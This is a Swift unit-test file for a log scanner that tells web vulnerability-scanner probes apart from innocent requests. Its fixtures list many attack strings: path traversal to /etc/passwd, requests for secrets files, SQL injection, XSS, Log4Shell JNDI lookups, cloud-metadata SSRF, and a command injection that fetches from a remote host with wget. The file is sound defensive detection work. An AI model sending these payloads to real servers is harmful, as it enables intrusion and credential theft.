import Testing

@testable import AccessLog

@Suite struct ScannerProbeTests {
  static func isProbe(_ line: String) -> Bool {
    ScannerProbe.isProbe(requestLine: Array(line.utf8))
  }

  @Test(
    "Paths that scanners ask for are probes, wherever they stand and however they are written",
    arguments: [
      "/wp-login.php", "/blog/wp-login.php", "//wp-login.php", "/WP-Login.php/", "/xmlrpc.php",
      "/wp-login.php;x=1", "/.env", "/.env.production", "/backend/.env", "/%2eenv", "/%252eenv",
      "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.htpasswd", "/.DS_Store", "/.ssh/id_rsa",
      "/.vscode/sftp.json", "/cgi-bin/luci/;stok=/locale", "/cgi-bin/test.cgi", "/phpmyadmin",
      "/phpMyAdmin/index.php", "/db/phpmyadmin/",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/lib/phpunit/Util/PHP/eval-stdin.php", "/actuator", "/actuator/health", "/actuator/env/",
      "/boaform/admin/formLogin", "/HNAP1/", "/HNAP1", "/manager/html",
      "/_ignition/execute-solution",
      "/wp-includes/wlwmanifest.xml", "/2019/wp-includes/wlwmanifest.xml", "/server-status",
      "/adminer.php", "/goform/webLogin", "/+CSCOE+/logon.html", "/remote/fgt_lang", "/shell.php",
      "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/x", "/%252e%252e%252fx",
      "/a/..\\..\\x", "/static/..;/admin", "/%c0%ae%c0%ae/%c0%ae%c0%ae/x", "/a%00.php",
      "http://example.org/actuator/env", "http://example.org/../x", "/./../x",
      "/x/%2e%2e/y", "/x/../../y",
      "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/nmaplowercheck", "/WEB-INF/web.xml",
      "/${jndi:ldap://example.org/a}", "/<script>alert(1)</script>", "/%3Cscript%3E",
    ])
  func paths(path: String) {
    #expect(Self.isProbe("GET \(path) HTTP/1.1"))
  }

  @Test(
    "Injections in a query are probes",
    arguments: [
      "file=../../../../etc/passwd", "file=%2e%2e%2f%2e%2e%2fx", "id=1+UNION+SELECT+1,2,3",
      "id=1%20union/**/all/**/select%20null", "id=1'+OR+'1'='1", "id=1+or+1=1--+", "q=<script>x",
      "q=%253Cscript%253E", "q=\"><img src=x onerror=alert(1)>", "x=${jndi:ldap://example.org/a}",
      "x=${${lower:j}ndi}", "x=%24%7Bjndi%3Aldap", "cmd=;wget+http://192.0.2.1/x",
      "cd+/tmp;rm+-rf+*",
      "s=/index/think/app/invokefunction&function=call_user_func_array",
      "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
      "url=http://169.254.169.254/latest/meta-data", "page=php://filter/convert.base64-encode",
      "class.module.classLoader.resources", "x={{7*7}}", "id=1;waitfor+delay+'0:0:5'",
      "id=(select(0)from(select(sleep(15)))v)", "u=file:///etc/hosts", "x=%00",
    ])
  func queries(query: String) {
    #expect(Self.isProbe("GET /?\(query) HTTP/1.1"))
  }

  @Test(
    "Other protocols and requests to be a proxy are probes",
    arguments: [
      "\u{16}\u{3}\u{1}", "\u{3}\u{0}\u{0}/*", "SSH-2.0-Go", "CONNECT example.org:443 HTTP/1.1",
      "EHLO example.org", "Cookie: mstshash=Administr", "*1", "OPTIONS sip:nm SIP/2.0", "MGLNDD_x",
    ])
  func protocols(line: String) {
    #expect(Self.isProbe(line))
  }

  @Test(
    "What innocent visitors ask for is none",
    arguments: [
      "/", "/index.php", "/wp-content/uploads/2024/a.jpg", "/wp-json/wp/v2/posts", "/wp-admin/",
      "/wp-admin/admin-ajax.php", "/wp-includes/js/jquery.js", "/wp-login",
      "/blog/secure-wp-login.php-tips",
      "/.well-known/acme-challenge/x", "/.well-known/security.txt", "/login", "/admin",
      "/environment",
      "/git/config", "/repo.git/info/refs", "/a/../b", "/./a/../b", "/actuators/linear",
      "/actuator/linear-drives",
      "/tags/phpunit",
      "/tags/phpmyadmin", "/backup.zip", "/a..b/c", "/file...txt", "/${item.url}",
      "/products/${slug}",
      "/union-select-committee", "/script", "/onerror", "/jndi",
      "/etcetera/passwords", "/caf%C9", "/bl%C3%A5b%C3%A6r",
      "/sdk/ios", "/shell", "/hudson", "/2024/10/.", "/search?q=european+union+select+committee",
      "/search?q=how+to+sleep+(better)", "/search?q=c%2B%2B+%3C+rust", "/?next=../page",
      "/?redirect=https://example.org/a", "/?q=chmod+777", "/?q=cmd.exe", "/?q=java.lang.String",
      "/?q=%27tis+or+not", "/?q=O%27Brien", "/?a=1&amp;b=2", "/?price=10--20",
      "/?q=drop+table+lamp",
      "/?q=500+%2B+1%3D501", "/?onError=redirect", "/?d=2024-10-01T12:00:00", "*",
      "http://example.org/page", "/?q=select+a+union",
      "/?returnUrl=%2Faccount%2F",
    ])
  func innocent(target: String) {
    #expect(!Self.isProbe("GET \(target) HTTP/1.1"))
  }

  @Test(
    "No request and a broken line are none", arguments: ["", "-", "GET", "hello world", "get /"])
  func broken(line: String) {
    #expect(!Self.isProbe(line))
  }

  @Test("A target is a probe by its path or by its query, each for itself")
  func parts() {
    for (path, query) in [("/a", "b=1"), ("/.env", "b=1"), ("/a", "b=<script"), ("/.env", "<?php")]
    {
      let whole = Self.isProbe("GET \(path)?\(query) HTTP/1.1")
      let apart =
        ScannerProbe.isProbe(path: Array(path.utf8)[...])
        || ScannerProbe.isProbe(query: Array(query.utf8)[...])
      #expect(whole == apart)
    }
  }
}
